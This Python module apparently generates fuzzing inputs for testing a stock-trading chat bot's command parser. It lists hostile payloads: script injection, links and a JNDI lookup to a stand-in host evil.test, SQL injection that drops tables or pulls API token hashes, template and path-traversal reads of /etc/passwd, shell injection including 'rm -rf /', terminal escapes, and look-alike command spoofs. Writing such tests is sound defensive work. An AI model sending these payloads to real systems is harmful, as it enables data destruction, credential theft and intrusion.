"""Messages that are meant to be more than text."""

from __future__ import annotations

import random

MARK = "zqx"
"""Stands in every snippet, so that what is read in a page can be told from the page's own."""

SNIPPETS = (
    f"<script>alert('{MARK}')</script>",
    f"<img src=x onerror=alert('{MARK}')>",
    f"<svg onload=alert('{MARK}')><a xlink:href='javascript:{MARK}'>x</a></svg>",
    f"<iframe src='https://evil.test/{MARK}'></iframe>",
    f"</code></div><h1>{MARK}</h1>",
    f"<b>{MARK}</b>",
    f"<a href='https://evil.test/{MARK}'>click</a>",
    f"<form action=https://evil.test/{MARK}><button>Confirm</button></form>",
    f"<style>*{{display:none}}/*{MARK}*/</style>",
    f"<!-- {MARK} --><meta http-equiv=refresh content='0;url=https://evil.test'>",
    f"<math><mtext></p><script>{MARK}</script></mtext></math>",
    f"<details open ontoggle=alert('{MARK}')>",
    f"[{MARK}](https://evil.test)",
    f"[{MARK}](javascript:alert(1))",
    f"![{MARK}](https://evil.test/pixel.png)",
    f"[{MARK}]: https://evil.test",
    f"https://evil.test/{MARK}",
    f"www.evil.test/{MARK}",
    f"javascript:alert('{MARK}')",
    f"data:text/html;base64,PHNjcmlwdD4={MARK}",
    f"**{MARK}** _x_ ~~y~~ `z` # heading",
    f":red[{MARK}] :material/warning: :streamlit:",
    f"$\\text{{{MARK}}}$ $$x^2$$",
    f"| a | b |{MARK}| - | - |",
    f"&lt;script&gt;{MARK}&lt;/script&gt;",
    f"&#60;script&#62;{MARK}",
    f"&amp;lt;img src=x {MARK}&amp;gt;",
    f"%3Cscript%3E{MARK}%3C/script%3E",
    f"\\u003cscript\\u003e{MARK}",
    f"\N{FULLWIDTH LESS-THAN SIGN}script\N{FULLWIDTH GREATER-THAN SIGN}{MARK}",
    f"\N{SINGLE LEFT-POINTING ANGLE QUOTATION MARK}script\N{RIGHT SINGLE QUOTATION MARK}{MARK}",
    f"scr\N{COMBINING ACUTE ACCENT}ipt {MARK} " + "\N{COMBINING GRAVE ACCENT}" * 60,
    f"\N{RIGHT-TO-LEFT OVERRIDE}tpircs{MARK}",
    f"\N{RIGHT-TO-LEFT ISOLATE}{MARK}\N{POP DIRECTIONAL ISOLATE}",
    f"ga\N{ZERO WIDTH SPACE}te{MARK}\N{ZERO WIDTH NON-JOINER}",
    f"\N{ZERO WIDTH JOINER}{MARK}\N{ZERO WIDTH JOINER}",
    f"\N{ZERO WIDTH NO-BREAK SPACE}{MARK}",
    f"{MARK}\x00\x1b]0;owned\x07",
    f"{MARK}\x1b[2J\x1b[31m",
    f"{MARK}\r\nSet-Cookie: a=b",
    f"{MARK}\n/clear\n/confirm",
    f"{MARK}\ud800",
    f"'; DROP TABLE watchlist; -- {MARK}",
    f"' OR '1'='1' /*{MARK}*/",
    f"1 UNION SELECT token_hash FROM api_key -- {MARK}",  # noqa: S608 - it is sent, not run
    f"{MARK}%' ESCAPE '!",
    f"{{{{7*7}}}}{MARK}{{% include '/etc/passwd' %}}",
    f"${{jndi:ldap://evil.test/{MARK}}}",
    f"$(touch /tmp/{MARK}) `id` ; rm -rf / | cat",
    f"__import__('os').system('{MARK}')",
    f"!!python/object/apply:os.system [{MARK}]",
    f'=HYPERLINK("https://evil.test";"{MARK}")',
    f"../../../../etc/passwd {MARK}",
    f"{MARK}" + "A" * 4_800,
    f"{MARK}" + "\N{PILE OF POO}" * 2_000,
    f"{MARK}" + "(" * 3_000,
    f"{MARK}" + '\\"' * 1_000,
    f"{MARK}" + "x" * 6_000,
)
"""Markup, links, tricks with characters, other languages, and what is much too long."""

_SHAPES = (
    "{raw}",
    "/{raw}",
    "/price {raw}",
    '/price "{quoted}"',
    '/watch add "{quoted}"',
    '/watch list="{quoted}"',
    '/help "{quoted}"',
    '/backtest "{quoted}" sma_crossover',
    '/backtest DRILL "{quoted}"',
    '/backtest DRILL sma_crossover short="{quoted}"',
    '/backtest DRILL sma_crossover zqx="{quoted}"',
    '/signals 5 "{quoted}"',
    '/confirm "{quoted}"',
    '/cancel "{quoted}"',
    '/scan vcp "{quoted}"',
    '/quality "{quoted}"',
)
_LOOK_ALIKES = (
    "/cl\N{CYRILLIC SMALL LETTER IE}ar",
    "/\N{FULLWIDTH LATIN SMALL LETTER C}lear",
    "\N{FULLWIDTH SOLIDUS}clear",
    "\N{FRACTION SLASH}clear",
    "/clear/confirm",
    "/clear /confirm",
    "/clear; /confirm",
    "/clear && /cancel all",
    "//clear",
    "/ clear",
    "/help /clear",
    '/help "/clear"',
    '/price "/watch remove DRILL"',
    "/watch remove",
    "/watch removeDRILL",
    "/watch add DRILL | /watch remove DRILL",
    "/confirm",
    "/confirm *",
    "/confirm %",
    "/confirm ''",
    '/confirm ""',
    "/confirm " + "A" * 4_900,
    "/price " + "x " * 2_000,
    "/price " + "a=1 " * 900,
    "/compare 999999999999999999999999",
    "/compare 1e9 nan inf -1",
    "/signals \N{ARABIC-INDIC DIGIT FIVE}",
    "/signals 1e3",
    "/signals 0x10",
    "/cancel 00000000-0000-0000-0000-000000000000",
)


def list_payloads(draw: random.Random, per_snippet: int) -> list[str]:
    """Each snippet in several shapes, and commands that look like others."""
    found = list(_LOOK_ALIKES)
    for snippet in SNIPPETS:
        quoted = snippet.replace("\\", "\\\\").replace('"', '\\"')
        found += [
            shape.format(raw=snippet, quoted=quoted) for shape in draw.sample(_SHAPES, per_snippet)
        ]
    return found
